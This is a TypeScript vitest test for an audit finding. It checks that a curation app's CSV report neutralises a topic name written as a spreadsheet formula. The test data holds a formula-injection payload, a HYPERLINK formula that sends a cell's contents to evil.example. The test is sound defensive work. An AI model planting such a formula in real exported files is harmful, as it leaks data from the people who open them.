/** Finding 8: what a curator downloads from /report.csv opens in a spreadsheet without running anything. */
import { afterEach, expect, it } from 'vitest';
import { call } from '../helpers/accounts.js';
import { makeNetwork, type Network } from '../curation/fixture.js';

let net: Network;
afterEach(() => net.close());

it('finding 8: a topic named like a formula is exported neutralised in /report.csv', async () => {
  net = await makeNetwork();
  const { admin } = net.users;
  const made = await call(net.app, 'POST', '/api/v1/topics', { as: admin, body: { slug: 'piege', name: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")' } });
  expect(made.status).toBe(201);
  const res = await net.app.request('/report.csv', { headers: { cookie: admin.cookie } });
  expect(res.status).toBe(200);
  const lines = (await res.text()).split('\r\n');
  const row = lines.find((l) => l.startsWith('piege,'));
  expect(row).toBeDefined();
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`);
  expect(lines.every((l) => !/(^|,)[=+\-@]/.test(l))).toBe(true);
});
